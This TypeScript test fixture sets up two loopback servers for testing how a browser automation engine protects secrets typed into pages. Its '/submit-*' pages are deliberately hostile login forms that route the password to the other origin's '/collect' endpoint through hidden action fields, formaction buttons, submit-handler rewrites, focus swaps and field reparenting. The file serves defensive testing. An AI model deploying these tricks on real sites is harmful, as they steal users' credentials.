// Two loopback origins for the secrets tests. Every page reports what its fields hold (on input and
// when it unloads) and that it loaded to its own server, so a test can tell which document ever
// saw a value. `/leaf` on A sends itself to B's `/leaf` at the first press on its field: a
// navigation between the check of a document and the act on it. The `/submit*` pages are login
// forms for `type` with `submit: true`, some of them built to carry the secret elsewhere; every
// form post either server receives is reported as `post <path>` with its body. Every document also
// counts the navigations it began (`attempts`; a form post is one): the navigate event fires within
// the key event that submits, so once a call has returned, a count of 0 says it submitted nothing.
import { type IncomingMessage, type Server, type ServerResponse, createServer } from "node:http";

export interface Report {
  origin: string;
  ev: string;
  v: string;
}

const REPORTER = `<script>
  const report = (ev, v) => navigator.sendBeacon("/report?ev=" + encodeURIComponent(ev) + "&v=" + encodeURIComponent(v || ""));
  report("loaded", location.pathname);
  document.addEventListener("input", (e) => report("input", e.target.value ?? e.target.textContent));
  addEventListener("pagehide", () => { for (const f of document.querySelectorAll("input,textarea")) report("unload", f.value); });
  window.__attempts = 0;
  navigation.addEventListener("navigate", () => window.__attempts++);
  // A form's submission plans its navigation in a later task; the submit event that nothing
  // stopped comes in the same one as the key that caused it.
  addEventListener("submit", (e) => { if (!e.defaultPrevented) window.__attempts++; });
</script>`;

/**
 * Navigations and submissions begun in each document of the page (main frame first); -1 for a
 * document without the counter (a new document: something navigated it).
 */
export function attempts(page: import("playwright-core").Page): Promise<number[]> {
  return Promise.all(page.frames().map((f) => f.evaluate(() => (window as unknown as { __attempts?: number }).__attempts ?? -1)));
}

function page(title: string, body: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}${REPORTER}</body></html>`;
}

export class SecretsSite {
  readonly reports: Report[] = [];
  private constructor(
    private readonly servers: Server[],
    readonly a: string,
    readonly b: string,
  ) {}

  static async start(): Promise<SecretsSite> {
    const servers: Server[] = [];
    const origins: string[] = [];
    let site: SecretsSite | undefined;
    for (let i = 0; i < 2; i++) {
      const s = createServer((req, res) => handle(req, res, origins, (r) => site?.reports.push(r)));
      await new Promise<void>((resolve) => s.listen(0, "127.0.0.1", () => resolve()));
      const ad = s.address();
      if (!ad || typeof ad === "string") throw new Error("no port");
      servers.push(s);
      origins.push(`http://127.0.0.1:${ad.port}`);
    }
    site = new SecretsSite(servers, origins[0] as string, origins[1] as string);
    return site;
  }

  pattern(o: string): string {
    return o.replace("http://", "");
  }

  async close(): Promise<void> {
    for (const s of this.servers) {
      s.closeAllConnections();
      await new Promise<void>((r) => s.close(() => r()));
    }
  }
}

function handle(req: IncomingMessage, res: ServerResponse, origins: string[], onReport: (r: Report) => void): void {
  const u = new URL(req.url ?? "/", "http://x");
  const self = `http://${req.headers.host ?? ""}`;
  const other = origins.find((o) => o !== self) ?? self;
  const html = (s: string) => {
    res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store" });
    res.end(s);
  };
  if (req.method === "POST" && u.pathname !== "/report") {
    let body = "";
    req.setEncoding("utf8");
    req.on("data", (c: string) => (body += c));
    req.on("end", () => {
      onReport({ origin: self, ev: `post ${u.pathname}`, v: body });
      const pw = new URLSearchParams(body).get("pw") ?? "";
      // The landing page shows what it received: a read-back path no engine substituted.
      html(page("Done", `<h1>Signed in</h1><p id="got">received ${pw.replace(/[<&]/g, "")}</p>`));
    });
    return;
  }
  const sub = submitPage(u.pathname, self, other, origins[0] === self);
  if (sub) return html(sub);
  switch (u.pathname) {
    case "/report":
      onReport({ origin: self, ev: u.searchParams.get("ev") ?? "", v: u.searchParams.get("v") ?? "" });
      res.writeHead(204).end();
      return;
    case "/login":
      // The page copies the user name into its own text: a read-back path the engine must mask.
      return html(
        page(
          "Sign in",
          `<h1>Sign in</h1>
<form id="f" action="/done" onsubmit="return false">
<label>User <input id="user" aria-label="User name"></label>
<label>Password <input id="pw" type="password" aria-label="Password"></label>
<label>Code <input id="otp" aria-label="One-time code" inputmode="numeric"></label>
<label>Key <input id="key" aria-label="API key"></label>
</form>
<div id="note" contenteditable="true" aria-label="Note" role="textbox"></div>
<p id="echo"></p>
<iframe id="other" title="Other origin" src="${other}/inner" width="300" height="80"></iframe>
<script>document.getElementById("user").addEventListener("input", (e) => { document.getElementById("echo").textContent = "Hello " + e.target.value; });</script>`,
        ),
      );
    case "/inner":
      return html(page("Inner", `<input id="inner" aria-label="Inner field"><input id="inner-pw" type="password" aria-label="Inner password">`));
    case "/attack":
      return html(page("Attack", `<h1>Attack</h1><iframe id="leafframe" title="Leaf" src="${self}/leaf" width="300" height="80"></iframe>`));
    case "/leaf":
      // On A: the first press on the field sends this frame to the other origin's leaf, whose own
      // field takes the focus at once (so keys would land there).
      return html(
        page(
          "Leaf",
          self === origins[0]
            ? `<input id="leaf" aria-label="Leaf field"><script>document.getElementById("leaf").addEventListener("mousedown", () => { location.href = "${other}/leaf"; });</script>`
            : `<input id="leaf" aria-label="Leaf field" autofocus>`,
        ),
      );
    default:
      return html(page("Home", `<h1>Home</h1>`));
  }
}

const FORM_PW = `<label>User <input id="user" name="user" aria-label="User name"></label>
<label>Password <input id="pw" name="pw" type="password" aria-label="Password"></label>`;

/** The login pages `type … submit: true` is tried on; undefined for any other path. */
function submitPage(path: string, self: string, other: string, isA: boolean): string | undefined {
  switch (path) {
    case "/submit":
      // The honest one: it posts to its own origin.
      return page("Submit", `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>`);
    case "/submit-elsewhere":
      // Posts to the other origin, and hides its action from a naive reader behind a field named "action".
      return page(
        "Elsewhere",
        `<form id="f" method="post" action="${other}/collect">${FORM_PW}<input type="hidden" name="action" value="/done"><button>Sign in</button></form>`,
      );
    case "/submit-formaction":
      // Posts to its own origin, but its default button sends elsewhere; a field named baseURI
      // shadows the form's base URL.
      return page(
        "Formaction",
        `<form id="f" method="post" action="/done">${FORM_PW}<input type="hidden" name="baseURI" value="x"><button formaction="${other}/collect">Sign in</button></form>`,
      );
    case "/submit-rewrite":
      // Points the form at the other origin from its own submit handler, after the capture phase.
      return page(
        "Rewrite",
        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
<script>document.getElementById("f").addEventListener("submit", function () { this.setAttribute("action", "${other}/collect"); });</script>`,
      );
    case "/submit-swap":
      // Once the secret is in, moves the focus to another password field, whose form posts elsewhere.
      return page(
        "Swap",
        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
<form id="g" method="post" action="${other}/collect"><label>New password <input id="pw2" name="pw" type="password" aria-label="New password"></label><button>Change</button></form>
<script>document.getElementById("pw").addEventListener("input", () => document.getElementById("pw2").focus());</script>`,
      );
    case "/submit-swap-key":
      // Lets the Enter's keydown through to the field, then moves the focus to another password
      // field before its keypress (which is what submits).
      return page(
        "Swap at the key",
        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
<form id="g" method="post" action="${other}/collect"><label>New password <input id="pw2" name="pw" type="password" aria-label="New password"></label><button>Change</button></form>
<script>document.getElementById("pw").addEventListener("keydown", (e) => { if (e.key === "Enter") document.getElementById("pw2").focus(); });</script>`,
      );
    case "/submit-reparent":
      // Once the secret is in, hands the field to another form (the form attribute), which posts elsewhere.
      return page(
        "Reparent",
        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
<form id="g" method="post" action="${other}/collect"><button>Other</button></form>
<script>document.getElementById("pw").addEventListener("input", (e) => e.target.setAttribute("form", "g"));</script>`,
      );
    case "/submit-frame":
      // Once the secret is in, moves the focus into the other origin's frame, whose password field takes it.
      return page(
        "Swap frame",
        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
<iframe id="other" title="Other origin" src="${other}/submit-inner" width="300" height="80"></iframe>
<script>document.getElementById("pw").addEventListener("input", () => document.getElementById("other").contentWindow.focus());</script>`,
      );
    case "/submit-inner":
      return isA
        ? undefined
        : page(
            "Inner form",
            `<form method="post" action="/collect"><input id="bpw" name="pw" type="password" aria-label="Inner password"><button>Go</button></form>
<script>addEventListener("focus", () => document.getElementById("bpw").focus());</script>`,
          );
    default:
      return undefined;
  }
}
